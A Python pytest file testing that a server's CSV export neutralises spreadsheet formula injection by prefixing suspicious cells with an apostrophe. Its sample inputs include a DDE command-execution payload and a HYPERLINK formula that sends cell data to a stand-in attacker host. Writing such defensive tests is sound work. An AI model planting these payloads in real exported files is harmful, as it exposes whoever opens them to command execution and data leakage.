"""No cell of a table that we write is calculated by the program that opens it."""

import csv
import io

import pytest

from server.core import sheets
from server.core.sheets import neutral, original, write_csv

FORMULAS = [
    "=1+1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://evil.example/"&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u3000=1+1",
    "＝1+1",
    "＠SUM(1)",
    "=",
    "-",
    "'=1+1",
    "''=1+1",
]
TEXTS = ["", "扫描电子显微镜", "a=b", "1-2", "'quoted", "''", "x@example.com", "3 + 4", "#REF!"]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_looks_like_a_formula_becomes_text_and_can_be_read_back(text: str) -> None:
    assert neutral(text) == "'" + text
    assert original(neutral(text)) == text


@pytest.mark.parametrize("text", TEXTS)
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert neutral(text) == text


def test_a_table_has_no_formula_in_any_cell_and_keeps_its_numbers() -> None:
    rows = [[text, -5, 2.5, None] for text in FORMULAS + TEXTS]
    written = write_csv(["名称", "=x", "y", "z"], rows).decode("utf-8-sig")
    read = list(csv.reader(io.StringIO(written, newline="")))
    assert read[0] == ["名称", "'=x", "y", "z"]
    assert [row[1:] for row in read[1:]] == [["-5", "2.5", ""]] * len(rows)
    assert [original(row[0]) for row in read[1:]] == FORMULAS + TEXTS
    assert {row[0][0] for row in read[1 : len(FORMULAS) + 1]} == {"'"}


def test_control_without_neutralising_there_would_be_formulas(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sheets, "neutral", lambda text: text)
    assert b"\r\n=cmd" in write_csv(["x"], [[text] for text in FORMULAS])
